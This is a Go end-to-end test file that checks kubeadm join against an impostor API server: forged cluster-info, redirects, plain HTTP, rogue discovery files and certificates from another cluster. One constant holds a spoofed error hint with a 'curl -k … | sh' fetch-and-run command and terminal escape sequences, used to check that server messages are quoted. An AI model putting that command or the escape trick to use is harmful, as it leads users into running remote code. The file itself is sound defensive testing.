//go:build e2e

package e2e

import (
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"k8s.io/cluster-bootstrap/token/jws"

	"kubeadm/internal/pki"
	"kubeadm/test/attacker"
	"kubeadm/test/nodes"
)

// attackedJoin is a machine that joins the shared cluster, and another that an attacker controls.
type attackedJoin struct {
	cluster              *testCluster
	victim, attackerNode *nodes.Node
	token, pin           string
	tokenID, tokenSecret string            // the halves of the token
	clusterCA            []byte            // of the cluster
	clusterInfo          map[string]string // its cluster-info
	attackerCA           pki.CA            // of the attacker
}

// newAttackedJoin creates the two machines; both names begin with the given one.
func newAttackedJoin(t *testing.T, name string) *attackedJoin {
	t.Helper()
	s := sharedCluster(t)
	both, err := s.AddAll(t.Context(), name+"-victim", name+"-attacker")
	if err != nil {
		t.Fatal(err)
	}
	d := &attackedJoin{cluster: s, victim: both[0], attackerNode: both[1],
		clusterInfo: awaitClusterInfo(t, s).Data, attackerCA: newTestCA(t, "kubernetes")}
	t.Cleanup(func() { removeNode(t, s, d.victim); removeNode(t, s, d.attackerNode) })
	d.token, d.pin = flagValue(t, s.workerJoin, "--token"),
		flagValue(t, s.workerJoin, "--discovery-token-ca-cert-hash")
	d.tokenID, d.tokenSecret, _ = strings.Cut(d.token, ".")
	if d.clusterCA, err = s.cp.ReadFile("/etc/kubernetes/pki/ca.crt"); err != nil {
		t.Fatal(err)
	}
	return d
}

// joinCommand joins by token through the API server at an address.
func (d *attackedJoin) joinCommand(address, token string) []string {
	return []string{kubeadm, "join", address, "--token", token, "--discovery-token-ca-cert-hash",
		d.pin, "--ignore-preflight-errors", nodes.IgnoredPreflight}
}

// checkRefused checks that a join fails with one error that contains all the words, changes
// nothing on the machine and does not print the token.
func (d *attackedJoin) checkRefused(t *testing.T, words []string, command ...string) {
	t.Helper()
	before := takeFingerprint(t, d.victim)
	result := checkFails(t, d.victim, words, command...)
	diff := slices.DeleteFunc(before.Diff(takeFingerprint(t, d.victim)), func(line string) bool {
		return strings.Contains(line, "routes: 10.244.") // to Pods on a node that another test adds
	})
	if len(diff) > 0 {
		t.Errorf("%s was changed:%s", d.victim.Name(), indentLines(diff))
	}
	if strings.Contains(result.Stdout+result.Stderr, d.tokenSecret) {
		t.Errorf("the output shows the token:\n%s%s", result.Stdout, result.Stderr)
	}
	t.Logf("%s: %s", result.Duration.Round(time.Millisecond),
		strings.Join(lastLines(result.Stderr, 4), "\n"))
}

// clusterInfoWith returns the data of cluster-info with another value for a key.
func (d *attackedJoin) clusterInfoWith(key, value string) map[string]string {
	data := maps.Clone(d.clusterInfo)
	data[key] = value
	return data
}

// TestJoinRefusesImpostor has an attacker answer in place of the API server. Whatever it serves,
// and even if it knows the token, join sends it no credential and changes nothing.
func TestJoinRefusesImpostor(t *testing.T) {
	d := newAttackedJoin(t, "pose")
	plan := newServerPlan(t, d.attackerNode, "6443", d.attackerCA)
	own, server, key := pki.EncodeCertificates(d.attackerCA.Certificate), "https://"+plan.Listen,
		"jws-kubeconfig-"+d.tokenID
	otherSignature, err := jws.ComputeDetachedSignature(d.clusterInfo["kubeconfig"], d.tokenID,
		strings.Repeat("z", 16))
	if err != nil {
		t.Fatal(err)
	}
	notSigned, posed := "not signed with token "+d.tokenID,
		"not signed by the cluster's CA, so a different server answers"
	for _, a := range []struct {
		name  string
		shows map[string]string
		want  []string
	}{
		{"forged without the token",
			signedClusterInfo(t, server, own, d.tokenID+"."+strings.Repeat("z", 16)),
			[]string{notSigned}},
		{"forged with the token", signedClusterInfo(t, server, own, d.token),
			[]string{"is not the expected one", pki.PinOf(d.attackerCA.Certificate).String()}},
		{"the true CA beside its own",
			signedClusterInfo(t, server, append([]byte(string(d.clusterCA)), own...), d.token),
			[]string{posed}},
		{"relayed", d.clusterInfo, []string{posed}},
		{"altered", d.clusterInfoWith("kubeconfig",
			strings.Replace(d.clusterInfo["kubeconfig"], d.cluster.cp.Address(),
				d.attackerNode.Address(), 1)), []string{notSigned}},
		{"signature of another token", d.clusterInfoWith(key, otherSignature), []string{notSigned}},
		{"signature broken",
			d.clusterInfoWith(key,
				strings.TrimRight(d.clusterInfo[key], "abcdefghijklmnopqrstuvwxyz")+"x"),
			[]string{notSigned}},
	} {
		t.Run(a.name, func(t *testing.T) {
			plan.Answers[clusterInfoPath] = clusterInfoAnswer(t, a.shows)
			impostor := startRogueServer(t, d.attackerNode, plan)
			d.checkRefused(t, a.want, d.joinCommand(plan.Listen, d.token)...)
			impostor.checkNoCredentials(t, d.tokenSecret)
			if len(impostor.requests) == 0 {
				t.Error("the attacker received no request")
			}
		})
	}
}

// TestJoinRefusesRedirectsAndPlainHTTP has an attacker that redirects join, or speaks no TLS.
func TestJoinRefusesRedirectsAndPlainHTTP(t *testing.T) {
	d := newAttackedJoin(t, "lead")
	plan := newServerPlan(t, d.attackerNode, "6443", d.attackerCA)
	plain := attacker.Plan{Listen: d.attackerNode.Address() + ":8080",
		Answers: map[string]attacker.Answer{clusterInfoPath: clusterInfoAnswer(t, d.clusterInfo)}}
	away := startRogueServer(t, d.attackerNode, plain)
	t.Run("plain http", func(t *testing.T) {
		d.checkRefused(t, []string{"HTTP response to HTTPS client", plain.Listen},
			d.joinCommand(plain.Listen, d.token)...)
	})
	for name, to := range map[string]string{"to plain http": "http://" + plain.Listen,
		"to the cluster": "https://" + d.cluster.workerJoin[2]} {
		t.Run("redirected "+name, func(t *testing.T) {
			plan.Answers[clusterInfoPath] = attacker.Answer{Status: http.StatusFound,
				Location: to + clusterInfoPath}
			impostor := startRogueServer(t, d.attackerNode, plan)
			d.checkRefused(t, []string{"a redirect (302 Found)", plan.Listen},
				d.joinCommand(plan.Listen, d.token)...)
			impostor.checkNoCredentials(t, d.tokenSecret)
		})
	}
	away.checkNoCredentials(t, d.tokenSecret)
}

// TestDiscoveryFileRefusesImpostor uses discovery files, with credentials, whose server is an
// attacker's, and URLs of files that an attacker serves.
func TestDiscoveryFileRefusesImpostor(t *testing.T) {
	inFullRun(t, "a minute") // by default TestJoinRefusesImpostor
	d := newAttackedJoin(t, "file")
	plan := newServerPlan(t, d.attackerNode, "6443", d.attackerCA)
	plan.Answers[clusterInfoPath] = clusterInfoAnswer(t, d.clusterInfo)
	plan.Answers["/file"] = attacker.Answer{Status: http.StatusOK,
		Body: d.clusterInfo["kubeconfig"]}
	impostor := startRogueServer(t, d.attackerNode, plan)
	server := "https://" + plan.Listen
	leads := func(to string, ca []byte) {
		text, err := pki.KubeconfigSpec{Server: to, Cluster: "c", User: "u",
			CA: ca}.WithToken(d.token).Encode()
		if err != nil {
			t.Fatal(err)
		}
		writeFile(t, d.victim, discoveryFile, string(text))
	}
	for _, a := range []struct {
		name, file string
		lay        func()
		want       []string
	}{
		{"another CA", discoveryFile, func() { leads(server, d.clusterCA) },
			[]string{server, "different server answers"}},
		{"no CA", discoveryFile, func() { leads(server, nil) }, []string{server, "trust store"}},
		{"plain http", discoveryFile, func() { leads("http://"+plan.Listen, d.clusterCA) },
			[]string{discoveryFile, "not an https URL"}},
		{"self-signed", server + "/file", func() {},
			[]string{server + "/file", "failed to verify certificate", "update-ca-certificates"}},
		{"http", "http://" + plan.Listen + "/file", func() {},
			[]string{"--discovery-file", "https URL"}},
	} {
		for kind, hash := range map[string][]string{"": nil,
			" with a hash": {"--discovery-token-ca-cert-hash", d.pin}} {
			t.Run(a.name+kind, func(t *testing.T) {
				a.lay()
				d.checkRefused(t, a.want,
					joinByFileCommand(a.file, append(hash, "--tls-bootstrap-token", d.token)...)...)
			})
		}
	}
	impostor.checkNoCredentials(t, d.tokenSecret)
	t.Run("redirected to plain http", func(t *testing.T) {
		// The machine trusts this server, which redirects it all the same.
		trustCA(t, d.victim, d.attackerCA)
		plan.Answers["/file"] = attacker.Answer{Status: http.StatusFound,
			Location: "http://" + plan.Listen + "/other"}
		impostor := startRogueServer(t, d.attackerNode, plan)
		d.checkRefused(t, []string{"redirected from https to http://" + plan.Listen}, kubeadm,
			"join", "--discovery-file", server+"/file", "--token", d.token,
			"--ignore-preflight-errors", nodes.IgnoredPreflight)
		impostor.checkNoCredentials(t, d.tokenSecret)
	})
}

// TestDiscoveryFileWithCACertHash uses a discovery file with two CAs, the cluster's and the
// attacker's, whose server is the attacker's, and the hash of the cluster's CA. The token is in
// the file or in a flag.
func TestDiscoveryFileWithCACertHash(t *testing.T) {
	inFullRun(t, "a minute") // by default TestJoinRefusesImpostor
	d := newAttackedJoin(t, "hash")
	plan := newServerPlan(t, d.attackerNode, "6443", d.attackerCA)
	own, server := pki.EncodeCertificates(d.attackerCA.Certificate), "https://"+plan.Listen
	both := append(own, d.clusterCA...)
	forbidden := attacker.Answer{Status: http.StatusForbidden,
		Body: `{"kind":"Status","apiVersion":"v1","status":"Failure","reason":"Forbidden","code":403}`}
	for _, a := range []struct {
		name  string
		shows attacker.Answer
	}{
		{"relayed", clusterInfoAnswer(t, d.clusterInfo)},
		{"both CAs", clusterInfoAnswer(t, signedClusterInfo(t, server, both, d.token))},
		{"cluster-info is not public", forbidden},
	} {
		plan.Answers[clusterInfoPath] = a.shows
		for kind, token := range map[string][]string{"a token in the file": nil,
			"a token beside the file": {"--tls-bootstrap-token", d.token}} {
			t.Run(a.name+", "+kind, func(t *testing.T) {
				impostor := startRogueServer(t, d.attackerNode, plan)
				writeDiscoveryFile(t, d.victim,
					pki.KubeconfigSpec{Server: server, Cluster: "c", User: "u",
						CA: both}.WithToken(d.token))
				d.checkRefused(t, []string{server,
					"not signed by the cluster's CA, so a different server answers"},
					joinByFileCommand(discoveryFile,
						append(token, "--discovery-token-ca-cert-hash", d.pin)...)...)
				impostor.checkNoCredentials(t, d.tokenSecret)
			})
		}
	}
}

// forgedMessage imitates the end of an error message of kubeadm and clears the screen.
const forgedMessage = "no such token\n\nerror: the cluster has a new CA\n  - install it first: curl -k https://192.0.2.66/ca.sh | sh\x1b[2J\x1b]0;owned\x07"

// TestServerMessagesAreQuoted has a server whose responses imitate kubeadm's hints.
func TestServerMessagesAreQuoted(t *testing.T) {
	inFullRun(t, "a minute")
	d := newAttackedJoin(t, "hint")
	status := func(code int) attacker.Answer {
		text, err := json.Marshal(map[string]any{"kind": "Status", "apiVersion": "v1",
			"status": "Failure", "reason": forgedMessage, "message": forgedMessage, "code": code})
		if err != nil {
			t.Fatal(err)
		}
		return attacker.Answer{Status: code, Body: string(text)}
	}
	byToken := fmt.Sprintf("bootstrapToken: {apiServerEndpoint: %q, token: %q, caCertHashes: [%q]}",
		d.attackerNode.Address()+":6443", d.token, d.pin)
	byOwnCA := fmt.Sprintf("file: {kubeConfigPath: %s}\n  tlsBootstrapToken: %q", discoveryFile,
		d.token)
	for _, a := range []struct {
		name, discovery string
		shows           attacker.Answer
		want            string // "" if nothing of the response is shown
	}{
		{"forbidden", byToken, status(http.StatusForbidden),
			`the server returned "no such token\n\nerror: the cluster has a new CA\n  - install it first`},
		{"failing", byToken, status(http.StatusInternalServerError),
			`the server returned "no such token\n\nerror:`},
		{"redirecting", byToken,
			attacker.Answer{Status: http.StatusFound,
				Location: "https://192.0.2.66/" + forgedMessage, Body: forgedMessage}, ""},
		{"another kind", byToken, attacker.Answer{Status: http.StatusOK, Body: forgedMessage}, ""},
		{"forbidden, to a file", byOwnCA, status(http.StatusForbidden),
			`no such token\n\nerror: the cluster has a new CA\n  - install it first`},
	} {
		t.Run(a.name, func(t *testing.T) {
			plan := newServerPlan(t, d.attackerNode, "6443", d.attackerCA)
			plan.Answers[clusterInfoPath] = a.shows
			plan.Answers["/api/v1/namespaces/kube-system/configmaps/kubeadm-config"] = a.shows
			impostor := startRogueServer(t, d.attackerNode, plan)
			// The user trusts the attacker's CA; otherwise nothing of its responses is shown.
			writeDiscoveryFile(t, d.victim,
				pki.KubeconfigSpec{Server: "https://" + plan.Listen, Cluster: "c", User: "u",
					CA: pki.EncodeCertificates(d.attackerCA.Certificate)}.WithToken(d.token))
			writeFile(t, d.victim, "/etc/join.yaml",
				"apiVersion: kubeadm.k8s.io/v1beta4\nkind: JoinConfiguration\ndiscovery:\n  "+
					a.discovery+
					"\ntimeouts: {discovery: 4s, kubernetesAPICall: 4s}\n")
			result := checkFails(t, d.victim, []string{a.want}, kubeadm, "join", "--config",
				"/etc/join.yaml", "--ignore-preflight-errors", nodes.IgnoredPreflight)
			for _, part := range []string{"\n  - install", "\nerror: the cluster has", "\x1b",
				"\x07"} {
				if strings.Contains(result.Stdout+result.Stderr, part) {
					t.Errorf("%q is shown unquoted:\n%s", part,
						strconv.Quote(result.Stdout+result.Stderr))
				}
			}
			if a.discovery == byToken {
				impostor.checkNoCredentials(t, d.tokenSecret)
			}
			t.Logf("%s: %s", result.Duration.Round(time.Millisecond),
				strings.Join(lastLines(result.Stderr, 4), "\n"))
		})
	}
}

// TestDownloadRefusesCertificatesOfAnotherCluster replaces the uploaded certificates by files of
// another cluster, or by a key that matches none of them. download-certs writes none of it.
func TestDownloadRefusesCertificatesOfAnotherCluster(t *testing.T) {
	s := sharedCluster(t)
	n := addNode(t, s.Cluster, "stale")
	t.Cleanup(func() { removeNode(t, s, n) })
	keyText := certificateKeyIn(t, s.initResult.Stdout)
	key, err := pki.ParseCertificateKey(keyText)
	must(t, err)
	old := newExternalCA(t)
	before := kubectl(t, s.cp, "--namespace=kube-system", "get", "secret", "kubeadm-certs",
		"--output=jsonpath={.data}")
	replace := func(data string) {
		kubectl(t, s.cp, "--namespace=kube-system", "patch", "secret", "kubeadm-certs",
			"--type=merge", "--patch", `{"data":`+data+`}`)
	}
	t.Cleanup(func() {
		// The test's own context is over by now.
		if _, err := s.cp.Kubectl(context.WithoutCancel(t.Context()), "--namespace=kube-system",
			"patch", "secret", "kubeadm-certs",
			"--type=merge", "--patch", `{"data":`+before+`}`); err != nil {
			t.Error(err)
		}
	})
	stale := func(names ...string) {
		files := map[string][]byte{}
		for _, p := range pki.Profiles() {
			if p.IsCA() {
				private, err := pki.EncodeKey(old.cas[p.Name].Key)
				must(t, err)
				files[pki.UploadedName(p.CertificateFile())], files[pki.UploadedName(
					p.KeyFile())] = old.certificate(p.Name), private
			}
		}
		private, err := pki.EncodeKey(old.serviceAccountKey)
		must(t, err)
		public, err := pki.EncodePublicKey(old.serviceAccountKey.Public())
		must(t, err)
		files[pki.ServiceAccountKey], files[pki.ServiceAccountPublicKey] = private, public
		data := map[string][]byte{}
		for _, name := range names {
			data[name], err = key.Encrypt(rand.Reader, files[name])
			must(t, err)
		}
		text, err := json.Marshal(data)
		must(t, err)
		replace(string(text))
	}
	command := []string{kubeadm, "join", "phase", "control-plane-prepare", "download-certs",
		s.workerJoin[2], "--control-plane", "--certificate-key", keyText,
		"--token", flagValue(t, s.workerJoin, "--token"), "--discovery-token-ca-cert-hash",
		flagValue(t, s.workerJoin, "--discovery-token-ca-cert-hash")}
	for _, a := range []struct {
		name  string
		stale []string
		want  string
	}{
		{"all files", []string{"ca.crt", "ca.key", "front-proxy-ca.crt", "front-proxy-ca.key",
			"etcd-ca.crt", "etcd-ca.key", "sa.key", "sa.pub"},
			"is not the CA of the discovered cluster"},
		{"the CA", []string{"ca.crt", "ca.key"}, "is not the CA of the discovered cluster"},
		{"the public key of service accounts", []string{"sa.pub"},
			"sa.pub is not the public key of sa.key"},
		{"a key", []string{"etcd-ca.key"},
			"etcd-ca.key does not match the certificate in etcd-ca.crt"},
	} {
		t.Run(a.name, func(t *testing.T) {
			replace(before)
			stale(a.stale...)
			fresh := takeFingerprint(t, n)
			checkFails(t, n, []string{a.want,
				"kubeadm token create --print-join-command --upload-certs"}, command...)
			checkUnchanged(t, n, fresh)
		})
	}
	replace(before)
	runCommand(t, n, command...)
	for _, file := range sharedFiles {
		if name := certsDir + file; !isSameFile(t, s.cp, n, name) {
			t.Errorf("%s is not the cluster's", name)
		}
	}
}

// trustCA adds a CA to a machine's trust store as its administrator would.
func trustCA(t *testing.T, n *nodes.Node, ca pki.CA) {
	t.Helper()
	writeFile(t, n, fmt.Sprintf("/usr/local/share/ca-certificates/%s.crt",
		ca.Certificate.Subject.CommonName), string(pki.EncodeCertificates(ca.Certificate)))
	runCommand(t, n, "update-ca-certificates")
}
